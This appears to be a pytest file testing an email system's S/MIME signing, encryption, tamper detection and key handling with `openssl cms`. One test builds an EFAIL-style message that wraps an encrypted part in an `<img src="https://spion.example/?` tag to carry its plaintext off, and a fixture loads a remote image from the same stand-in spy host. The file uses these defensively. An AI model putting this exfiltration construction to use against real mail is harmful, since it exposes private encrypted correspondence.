"""S/MIME against `openssl cms`: what it signs and encrypts is read here, in all forms that mail programs use."""

import base64
import tempfile
from datetime import UTC, datetime, timedelta
from functools import cache
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from hypothesis import given, settings
from hypothesis import strategies as st

from channels.email import message
from channels.email.smime import keys, opening, verifying
from channels.email.smime.keys import Keyring, Own
from channels.email.smime.opening import Opening
from channels.email.smime.settings import SmimeSettings
from contactcenter import tokens
from contactcenter.errors import Misconfigured
from tests.unit.channels.email.authority import ASTRID, BYGG, authority, curve_key, mail, openssl, rsa_key, written

ENTITY = (
    "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nStängslet är högt.\r\n".encode()
)
CITY = authority()
OURS = CITY.issue(BYGG, rsa_key(2), days=10_000)
OURS_CURVED = CITY.issue(BYGG, curve_key(2), days=10_000)


def _keys(*own: Own, trusted: bool = True) -> Keyring:
    return Keyring([CITY.own.certificate] if trusted else [], {}, list(own))


def _signed(folder: Path, own: Own, *more: str, entity: bytes = ENTITY, sender: str = ASTRID) -> bytes:
    path = str(written(own, folder / "signer.pem"))
    return mail(openssl(folder, entity, "-sign", "-signer", path, "-md", "sha256", *more), sender)


def _enveloped(folder: Path, own: Own, *more: str, entity: bytes = ENTITY) -> bytes:
    path = str(written(own, folder / "recipient.pem"))
    return openssl(folder, entity, "-encrypt", "-recip", path, *more)


def _opened(raw: bytes, keys: Keyring, sender: str = ASTRID) -> Opening:
    return opening.opened(raw, keys, sender, datetime.now(UTC))


def _state(raw: bytes, keys: Keyring, sender: str = ASTRID) -> str:
    return str(_opened(raw, keys, sender).facts().get("signature", ""))


ASTRIDS = CITY.issue(ASTRID, days=10_000)
FORMS: list[tuple[str, ...]] = [(), ("-nodetach",), ("-nodetach", "-stream"), ("-keyid",), ("-noattr",)]
PSS = ("-keyopt", "rsa_padding_mode:pss")


@pytest.mark.parametrize("form", [*FORMS, PSS], ids=" ".join)
def test_a_good_signature_is_valid_in_every_form(tmp_path: Path, form: tuple[str, ...]) -> None:
    found = _opened(_signed(tmp_path, ASTRIDS, *form), _keys())
    assert found.signature is not None
    assert (found.signature.state, found.signature.by, found.signature.addresses) == ("valid", "Astrid Ek", (ASTRID,))
    if "-noattr" not in form:
        assert abs(datetime.fromisoformat(found.signature.signed_at) - datetime.now(UTC)) < timedelta(hours=1)


@pytest.mark.parametrize("digest", ["sha384", "sha512"])
def test_longer_digests_and_curves(tmp_path: Path, digest: str) -> None:
    assert _state(_signed(tmp_path, CITY.issue(ASTRID, curve_key(), days=10_000), "-md", digest), _keys()) == "valid"


def test_one_changed_letter_is_seen(tmp_path: Path) -> None:
    detached = _signed(tmp_path, ASTRIDS)
    assert _state(detached.replace(b"gslet", b"gslat"), _keys()) == "changed"
    assert _state(detached.replace(b"gslet", b"gslet "), _keys()) == "changed"


def test_line_breaks_do_not_count(tmp_path: Path) -> None:
    assert _state(_signed(tmp_path, ASTRIDS).replace(b"\r\n", b"\n"), _keys()) == "valid"


def test_whom_nobody_vouches_for(tmp_path: Path) -> None:
    stranger = authority("Solviks prövomyndighet", 8).issue(ASTRID, days=10_000)
    assert _state(_signed(tmp_path, stranger), _keys()) == "unknown_issuer"
    assert _state(_signed(tmp_path, ASTRIDS), _keys(trusted=False)) == "unknown_issuer"


def test_a_certificate_without_the_right_to_issue_vouches_for_nobody(tmp_path: Path) -> None:
    false = type(CITY)(ASTRIDS).issue(ASTRID, rsa_key(3), days=9000)
    assert _state(_signed(tmp_path, false), _keys()) == "unknown_issuer"


def test_a_certificate_that_has_run_out(tmp_path: Path) -> None:
    old = CITY.issue(ASTRID, days=1, begins=datetime.now(UTC) - timedelta(days=3))
    assert _state(_signed(tmp_path, old), _keys()) == "expired"


def test_somebody_elses_signature(tmp_path: Path) -> None:
    raw = _signed(tmp_path, ASTRIDS, sender="kommundirektor@solvik.example")
    assert _state(raw, _keys(), "kommundirektor@solvik.example") == "other_address"


def test_sha1_and_short_keys_prove_nothing(tmp_path: Path) -> None:
    assert _state(_signed(tmp_path, ASTRIDS, "-md", "sha1"), _keys()) == "weak"
    assert _state(_signed(tmp_path, CITY.issue(ASTRID, rsa_key(5, 1024), days=9000)), _keys()) == "weak"


CIPHERS = ["-aes-128-cbc", "-aes-192-cbc", "-aes-256-cbc", "-des3", "-aes-128-gcm", "-aes-256-gcm"]
OAEP = ("-keyopt", "rsa_padding_mode:oaep")
OAEP_256 = (*OAEP, "-keyopt", "rsa_oaep_md:sha256")


@pytest.mark.parametrize(
    ("own", "cipher"),
    [(own, one) for own in (OURS, OURS_CURVED) for one in CIPHERS if (own, one) != (OURS_CURVED, "-des3")],
)
def test_what_is_encrypted_for_us_is_read(tmp_path: Path, own: Own, cipher: str) -> None:
    found = _opened(mail(_enveloped(tmp_path, own, cipher)), _keys(own))
    assert (found.encryption, found.sealed) == ("opened", cipher.endswith("gcm"))
    assert "Stängslet är högt.".encode() in found.raw
    assert found.raw.startswith(b"From: Astrid Ek")


@pytest.mark.parametrize("how", [OAEP, OAEP_256, ("-keyid",), ("-stream",)], ids=" ".join)
def test_other_ways_to_carry_the_key(tmp_path: Path, how: tuple[str, ...]) -> None:
    before = (how[0],) if how[0] in ("-keyid", "-stream") else ()
    raw = mail(openssl(tmp_path, ENTITY, "-encrypt", *before, "-aes-256-cbc", "-recip",
                       str(written(OURS, tmp_path / "r.pem")), *(() if before else how)))  # fmt: skip
    assert _opened(raw, _keys(OURS)).encryption == "opened"


def test_no_key_of_ours(tmp_path: Path) -> None:
    found = _opened(mail(_enveloped(tmp_path, OURS)), _keys(CITY.issue(BYGG, rsa_key(4))))
    assert found.facts() == {"encryption": "no_key", "sealed": True}


def test_signed_then_encrypted(tmp_path: Path) -> None:
    path = str(written(ASTRIDS, tmp_path / "signer.pem"))
    signed = openssl(tmp_path, ENTITY, "-sign", "-signer", path)
    found = _opened(mail(_enveloped(tmp_path, OURS, entity=signed)), _keys(OURS))
    assert (found.encryption, found.sealed, found.facts()["signature"]) == ("opened", True, "valid")


def test_encrypted_then_signed(tmp_path: Path) -> None:
    raw = _signed(tmp_path, ASTRIDS, entity=_enveloped(tmp_path, OURS))
    found = _opened(raw, _keys(OURS))
    assert (found.encryption, found.facts()["signature"]) == ("opened", "valid")
    assert "Stängslet är högt.".encode() in found.raw


SECRET = b"0123456789abcdef0123456789abcdef"
PAGE = b'Content-Type: text/html\r\n\r\n<p>Hemligt</p><img src="https://spion.example/p.png" width="90">'


def test_an_envelope_among_other_parts_stays_shut(tmp_path: Path) -> None:
    """What stands round it could carry it away: `<img src="https://spion.example/` before, `">` after."""
    tokens.use_secret(SECRET)
    sealed = _enveloped(tmp_path, OURS).replace(b"\n", b"\r\n")
    before = b'Content-Type: text/html\r\n\r\n<img src="https://spion.example/?'
    parts = [before, sealed, b'Content-Type: text/html\r\n\r\n">']
    body = b"".join(b"--kant\r\n" + part + b"\r\n" for part in parts) + b"--kant--\r\n"
    raw = mail(b'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="kant"\r\n\r\n') + body
    found = message.parse(raw, ASTRID, [BYGG], _keys(OURS))
    assert "ngslet" not in found.text + found.html
    assert found.smime is None
    assert "encrypted" in found.notes


@pytest.mark.parametrize(("cipher", "loads"), [("-aes-256-cbc", 0), ("-aes-256-gcm", 1)])
def test_what_may_have_been_changed_on_the_way_never_loads_anything(tmp_path: Path, cipher: str, loads: int) -> None:
    tokens.use_secret(SECRET)
    found = message.parse(mail(_enveloped(tmp_path, OURS, cipher, entity=PAGE)), ASTRID, [BYGG], _keys(OURS))
    assert "Hemligt" in found.html
    assert found.html.count("data-remote=") == loads


@pytest.mark.parametrize("cipher", ["-aes-256-cbc", "-aes-256-gcm"])
def test_a_changed_envelope_is_damaged_or_unsealed(tmp_path: Path, cipher: str) -> None:
    data = bytearray(openssl(tmp_path, PAGE, "-encrypt", cipher, "-outform", "DER", "-recip",
                             str(written(OURS, tmp_path / "r.pem"))))  # fmt: skip
    data[-60] ^= 1
    head = (
        b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    )
    found = _opened(mail(head + base64.encodebytes(bytes(data))), _keys(OURS))
    assert not found.sealed
    assert cipher == "-aes-256-cbc" or found.encryption == "damaged"


def test_a_mail_is_read_with_what_is_known_of_it(tmp_path: Path) -> None:
    tokens.use_secret(SECRET)
    path = str(written(ASTRIDS, tmp_path / "signer.pem"))
    raw = mail(_enveloped(tmp_path, OURS, entity=openssl(tmp_path, ENTITY, "-sign", "-signer", path)))
    found = message.parse(raw, ASTRID, [BYGG], _keys(OURS))
    assert (found.text, found.subject, found.sender) == ("Stängslet är högt.", "Stängsel", ASTRID)
    assert found.smime is not None
    assert (found.smime["encryption"], found.smime["signature"], found.smime["by"]) == ("opened", "valid", "Astrid Ek")


@settings(max_examples=150, deadline=None)
@given(place=st.integers(0, 2_000), byte=st.integers(0, 255), cut=st.integers(0, 40))
def test_damage_never_raises_and_never_proves(place: int, byte: int, cut: int) -> None:
    data = bytearray(_sample())
    place %= len(data)
    data[place] = byte
    found = verifying.verify(bytes(data[: len(data) - cut]), ENTITY, [CITY.own.certificate], ASTRID, datetime.now(UTC))
    if found.state is verifying.State.VALID:  # the damage is where nothing stands that counts
        assert found.certificate == ASTRIDS.certificate.public_bytes(serialization.Encoding.DER)


@cache
def _sample() -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = str(written(ASTRIDS, Path(folder) / "signer.pem"))
        return openssl(Path(folder), ENTITY, "-sign", "-signer", path, "-outform", "DER", "-binary")


def test_keys_that_others_may_read_are_refused(tmp_path: Path) -> None:
    path = written(OURS, tmp_path / "bygg.pem")
    assert keys.load(SmimeSettings(smime_keys={BYGG: path})).by_address[BYGG].certificate == OURS.certificate
    with pytest.raises(Misconfigured, match="not for this address"):
        keys.load(SmimeSettings(smime_keys={"skola@solvik.example": path}))
    path.chmod(0o640)
    with pytest.raises(Misconfigured, match="chmod 600"):
        keys.load(SmimeSettings(smime_keys={BYGG: path}))
